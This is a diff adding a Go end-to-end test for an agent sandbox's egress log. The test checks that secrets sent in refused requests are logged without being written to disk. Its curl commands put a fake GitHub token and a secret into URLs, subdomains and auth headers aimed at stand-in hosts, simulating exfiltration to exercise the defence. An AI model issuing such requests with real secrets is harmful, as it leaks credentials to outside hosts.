@@ -3,6 +3,7 @@ package e2e
 import (
 	"os"
 	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -113,6 +114,48 @@ func TestEgressLog(t *testing.T) {
 	}
 	if strings.Contains(denied, "allowed.test:443") || !strings.Contains(denied, "refused.test") {
 		t.Errorf("what was denied:\n%s", denied)
+	}
+	if code := l.end(); code != 0 {
+		t.Errorf("exit %d\n%s", code, l.errs)
+	}
+}
+
+// TestEgressLogOnDisk has an agent put secrets into URLs that are refused: each
+// request is in the log, and no secret is in its files.
+func TestEgressLogOnDisk(t *testing.T) {
+	leakcheck.Check(t)
+	u := newUser(t)
+	l := u.start("claude-bottle-disk")
+	const token, value = "ghp_0123456789abcdefghijABCDEFGHIJ012345", "s3cr3t-of-no-form"
+	urls := []string{
+		"http://refused.test/?key=" + value, "http://user:" + value + "@refused.test/", "http://refused.test/" + token,
+		"http://refused.test/" + strings.ReplaceAll(token, "_", "%5f"), "http://allowed.test/?key=" + token, "http://allowed.test/#" + value,
+		"https://" + token + ".refused.test/",
+	}
+	for _, url := range urls {
+		u.exec(l.name, "curl", "-sS", "-m", "20", "-o", "/dev/null", url)
+	}
+	for _, header := range []string{"Authorization: Bearer " + token, "Proxy-Authorization: Bearer " + value} {
+		u.exec(l.name, "curl", "-sS", "-m", "20", "-o", "/dev/null", "-H", header, "http://refused.test/")
+	}
+	files, err := filepath.Glob(filepath.Join("/var/lib/bottle", os.Getenv("CONTAINERD_NAMESPACE"), l.name, "*"))
+	if err != nil || len(files) == 0 {
+		t.Fatalf("no files: %v", err)
+	}
+	for _, file := range files {
+		data, err := os.ReadFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, secret := range []string{token, strings.ToLower(token), value, strings.ReplaceAll(token, "_", "%5f")} {
+			if strings.Contains(string(data), secret) {
+				t.Errorf("%s shows %s:\n%s", file, secret, data)
+			}
+		}
+	}
+	// Of all of them one is allowed: a fragment stays with the client.
+	if r := u.bottle("egress", l.name, "--denied", "--json"); strings.Count(r.stdout, "\n") != len(urls)+2-1 {
+		t.Errorf("refused are\n%s", r.stdout)
 	}
 	if code := l.end(); code != 0 {
 		t.Errorf("exit %d\n%s", code, l.errs)
